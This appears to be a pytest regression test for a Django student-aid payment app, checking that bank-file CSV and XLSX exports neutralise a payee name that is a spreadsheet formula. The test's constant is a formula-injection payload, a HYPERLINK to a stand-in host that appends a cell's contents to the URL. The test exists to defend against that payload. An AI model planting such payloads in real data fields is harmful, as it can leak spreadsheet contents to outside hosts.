"""A payee name a spreadsheet would run does not stop the bank file (issue 11, item 5)."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import openpyxl
import pytest
from tests.conftest import County, Personas

from jingzhun.aid import services
from jingzhun.funds.models import Payment, PaymentBatch

from .test_views import approved, computed, login  # noqa: F401  (fixtures)

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"点击")'


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_bank_file_download_with_a_formula_name(
    approved: County,  # noqa: F811
    personas: Personas,
    fmt: str,
) -> None:
    batch = services.aid_batch_create(
        actor=personas.aid_officer, school_year=2018, semester="autumn", idempotency_key="k"
    )
    Payment.objects.filter(batch=batch).update(payee_name=HOSTILE)
    client = login(personas.aid_officer)
    assert client.post(f"/aid/batches/{batch.pk}/", {"action": "approve"}).status_code == 302
    response = client.post(f"/aid/batches/{batch.pk}/bank.{fmt}")
    assert response.status_code == 200, response.content[:300]
    batch.refresh_from_db()
    assert batch.status == PaymentBatch.Status.SENT
    names = _holders(response.content, fmt)
    if fmt == "csv":
        assert names == ["'" + HOSTILE]  # the text kept, after the apostrophe
    else:
        assert names == [HOSTILE]  # a text cell, kept exactly


def _holders(content: bytes, fmt: str) -> list[Any]:
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        return [r[2] for r in rows[2:-1]]
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [row[2] for row in sheet.iter_rows(min_row=3, values_only=True) if row[0] != "合计"]
